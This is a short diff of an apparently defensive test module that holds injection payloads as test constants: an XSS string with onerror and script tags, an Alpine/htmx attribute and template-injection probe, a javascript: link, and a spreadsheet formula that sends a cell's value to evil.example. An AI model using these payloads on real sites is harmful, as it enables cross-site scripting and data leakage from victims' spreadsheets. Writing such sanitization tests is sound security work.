@@ -11,7 +11,7 @@ from tests.support.gateway import Gateway
 
 SCRIPT = '"><img src=/static/x onerror=window.ran=1></script></style><script>window.ran=2</script>'
 ALPINE = (
-    "' x-data x-init=\"window.ran=3\" hx-get=/admin/logout/ {{ 7*7 }}{% now 'Y' %}${window.ran=4}"
+    "' x-data x-init=\"window.ran=3\" hx-get=/admin/logout/ {{ 7*7 }}{% now 'Y' %}$${window.ran=4}"
 )
 LINK = "<a href=javascript:alert(1)>&lt;b&gt; ]]><!-- \U0001f480"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
